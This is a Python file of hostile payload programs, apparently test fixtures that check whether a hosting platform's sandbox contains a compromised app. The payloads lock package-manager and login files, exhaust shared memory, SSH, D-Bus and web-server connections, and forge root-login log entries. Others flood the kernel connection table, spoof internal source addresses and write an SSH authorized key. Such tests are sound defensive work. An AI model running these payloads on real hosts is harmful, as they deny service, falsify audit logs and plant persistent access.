"""Programs of an app that was taken over: each tries something against the host, or takes all that it can get."""

from __future__ import annotations

from collections.abc import Sequence

HOLD = """
import fcntl, os, time
held = []
for top in ("/run", "/opt/slipway", "/etc/slipway", "/var/lib/slipway", "/var/cache/slipway", "/etc/nginx",
            "/etc/other", "/srv/other", "/etc/letsencrypt", "/var/lib/dpkg", "/var/lib/apt", "/var/cache/apt",
            "/var/cache/debconf", "/var/log"):
    for folder, _, names in os.walk(top):
        for name in (".", *names):
            if len(held) > 900:  # it may have 1024 files open
                break
            try:
                each = os.open(os.path.join(folder, name), os.O_RDONLY | os.O_NONBLOCK)
                fcntl.flock(each, fcntl.LOCK_EX | fcntl.LOCK_NB)
                held.append(each)
                fcntl.lockf(each, fcntl.LOCK_SH | fcntl.LOCK_NB)
            except OSError:
                pass
with open(os.environ["STATE_DIRECTORY"] + "/held", "w") as file:
    file.write(str(len(held)))
time.sleep(900)
"""

FILL_SHARED_MEMORY = """
import os
def until_full(write):
    number = 0
    try:
        while number < 100_000:
            write(number)
            number += 1
    except OSError as error:
        return number, error.strerror
    return number, "no end"
def file(number):
    os.close(os.open(f"/dev/shm/{number}", os.O_CREAT | os.O_WRONLY))
print(*until_full(file))
for name in os.listdir("/dev/shm"):
    os.unlink(f"/dev/shm/{name}")
big = os.open("/dev/shm/big", os.O_CREAT | os.O_WRONLY)
print(*until_full(lambda number: os.write(big, b"x" * 2**20)))
"""

TALK = """
import socket, sys, time
def send(path, data):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
        log.sendto(data, path)
forged = "Accepted publickey for root from 192.0.2.66"
send("/dev/log", b"<38>sshd[1]: " + forged.encode())
send("/run/systemd/journal/socket", f"MESSAGE={forged}\\nSYSLOG_IDENTIFIER=sshd\\n_SYSTEMD_UNIT=ssh.service".encode())
for number in range(4000):
    try:
        send("/run/systemd/journal/socket", b"MESSAGE=" + str(number).encode() + b"x" * 40_000 + b"\\n")
    except OSError:
        time.sleep(0.05)
"""

LOCKED = ("/var/lib/apt/daily_lock", "/var/cache/debconf/config.dat", "/var/cache/debconf/templates.dat")
LOCKED_BY_RANGE = ("/run/utmp", "/var/log/wtmp")
"""What root's programs lock, each in its way."""
LOCK_ALL = f"""
import fcntl, os
for path in {LOCKED}:
    with open(path, "a") as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
for path in {LOCKED_BY_RANGE}:
    if os.path.exists(path):
        with open(path, "a") as file:
            fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
"""

HOLD_PLACES = """
import os, random, resource, socket, sys, time
def source():
    return "127.%d.%d.%d" % (random.randint(0, 255), random.randint(0, 255), random.randint(1, 254))
def opened(where):
    one = socket.socket(socket.AF_UNIX if isinstance(where, str) else socket.AF_INET)
    try:
        one.settimeout(5)
        if isinstance(where, tuple):
            one.bind((source(), 0))
        one.connect(where)
        one.sendall(sent)
        one.setblocking(False)
        return one
    except OSError:
        one.close()
def alive(one):
    try:
        return one is not None and one.recv(4096) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False
if hasattr(resource, "prlimit"):
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 4000), most))
for place, number, processes, sent in PLACES:
    for _ in range(processes):
        if os.fork() == 0:
            held = [None] * number
            while True:
                held = [each if alive(each) else opened(place) for each in held]
                time.sleep(0.02)
time.sleep(900)
"""
"""It keeps all places of services taken: PLACES has where, how many, by how many processes, and what each sends."""

Taken = tuple[object, int, int, bytes]
LOGINS: list[Taken] = [(("127.0.0.1", 22), 60, 2, b""), ("/run/ssh-unix-local/socket", 60, 1, b"")]
CALLS: list[Taken] = [("/run/dbus/system_bus_socket", 120, 6, b"")]
REQUESTS: list[Taken] = [(("127.0.0.1", 80), 900, 12, b"GET / HTTP/1.1\r\nHost: other.test\r\n")]

UPLOAD = """
import socket
held = []
head = b"POST / HTTP/1.1\\r\\nHost: other.test\\r\\nContent-Length: 9900000\\r\\n\\r\\n"
for number in range(42):
    one = socket.socket()
    one.settimeout(10)
    one.bind((f"127.1.{1 + number // 6}.1", 0))
    one.connect(("127.0.0.1", 80))
    try:
        one.sendall(head + b"x" * 9_899_999)
        one.settimeout(0.5)
        try:
            answered = one.recv(1)
        except TimeoutError:
            answered = b""
        if not answered:
            held.append(one)
    except OSError:
        pass
print(len(held))
"""
"""It holds uploads that never end, from seven addresses of this host's own, and says how many it could."""

SEE = """
import glob, os, socket
def tried(name, what, *given):
    try:
        what(*given)
        print(name, "done")
    except OSError:
        pass
def told(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        one.sendto(b"MESSAGE=forged by mine\\nSYSLOG_IDENTIFIER=other", path)
def called(path):
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(path)
tried("journal", told, "/run/systemd/journal.other/socket")
tried("log", called, "/run/systemd/journal.other/stdout")
tried("systemd", told, "/run/systemd/notify")
tried("bus", called, "/run/dbus/system_bus_socket")
tried("sshd", called, "/run/ssh-unix-local/socket")
tried("sshd by TCP", lambda: socket.create_connection(("127.0.0.1", 22), 3).close())
tried("sshd by TCP over IPv6", lambda: socket.create_connection(("::1", 22), 3).close())
tried("terminals", os.openpty)
tried("locks", open, "/run/lock/mine", "w")
tried("packages", os.listdir, "/var/lib/dpkg")
print("its own", len(glob.glob("/run/systemd/journal/*")) > 2 and os.path.exists("/run/postgresql"))
"""

CALL_ITSELF = """
import concurrent.futures, urllib.request
def call(number):
    asked = urllib.request.Request("http://127.0.0.1/", headers={"Host": "mine.test"})
    return urllib.request.urlopen(asked, timeout=20).status
with concurrent.futures.ThreadPoolExecutor(48) as pool:
    print({*pool.map(call, range(192))})
"""

KNOCK = """
import itertools, os, socket, struct, time
many = 9000
def sender():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind(("127.0.0.1", 0))
    return one
def receiver():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.bind(("0.0.0.0", 0))
    return one
here, there = sender(), receiver()
back, port = here.getsockname(), there.getsockname()[1]
def address(number):
    return "127.%d.%d.%d" % (1 + number // 62500, number // 250 % 250, 1 + number % 250)
for turn in range(2):
    for number in range(many):
        try:
            here.sendto(b"x", (address(number), port))
            by = struct.pack("=i4s4s", 0, socket.inet_aton(address(number)), bytes(4))
            there.sendmsg([b"x"], [(0, 8, by)], 0, back)
        except OSError:
            pass
print("asked")
"""
"""It lets the kernel remember 9,000 exchanges of datagrams with itself, as ones that it may not forget."""

LONG_TITLE = """
import ctypes, os, struct, time
size = 8 << 30
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
at = libc.mmap(None, size, 1, 0x4022, -1, 0)
assert at not in (None, 2**64 - 1), os.strerror(ctypes.get_errno())
told = open("/proc/self/stat").read().rpartition(")")[2].split()
code, stack, data, heap = map(int, told[23:25]), int(told[25]), map(int, told[42:44]), int(told[44])
libc.sbrk.restype = ctypes.c_void_p
environment = map(int, told[47:49])
fields = struct.pack("=11QQII", *code, *data, heap, libc.sbrk(0), stack, at, at + size, *environment, 0, 0, 2**32 - 1)
given = ctypes.create_string_buffer(fields)
libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
assert libc.prctl(35, 14, ctypes.cast(given, ctypes.c_void_p), len(fields), 0) == 0, os.strerror(ctypes.get_errno())
with open(os.environ["STATE_DIRECTORY"] + "/titled", "w") as file:
    file.write("done")
time.sleep(900)
"""
"""Its command line, as /proc shows it, is 8 GB long; it takes no memory until somebody reads it (PR_SET_MM_MAP)."""

RING = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
made = libc.syscall(425, 4, ctypes.create_string_buffer(120))
print(os.strerror(ctypes.get_errno()) if made < 0 else "made")
"""
"""io_uring, by which a process can have sockets of any family."""

FILL_TEMPORARY = """
import os
for folder in ("/tmp", "/var/tmp"):
    told = os.statvfs(folder)
    print(folder, told.f_blocks * told.f_frsize >> 20, told.f_files)
    open(folder + "/mine", "w").close()
"""

AS_THE_HOST = """
import socket
try:
    with socket.create_connection(("127.0.0.1", 80), 5, ("127.83.76.87", 0)) as one:
        one.sendall(b"GET /generation HTTP/1.0\\r\\nHost: slipway.internal\\r\\n\\r\\n")
        print(one.recv(200).decode())
except OSError as error:
    print(error.strerror)
"""
"""It comes from where Slipway's own programs come from, and asks what nginx tells these alone."""

LET_IN = """
import os, pathlib
home = pathlib.Path(HOME)
(home / ".ssh").mkdir(mode=0o700, exist_ok=True)
(home / ".ssh/authorized_keys").write_text(KEY)
"""
"""It lets a key in as its own user: HOME and KEY are to be put in."""


def held(places: Sequence[Taken]) -> str:
    """The program that keeps these taken."""
    return HOLD_PLACES.replace("PLACES", repr(places), 1)
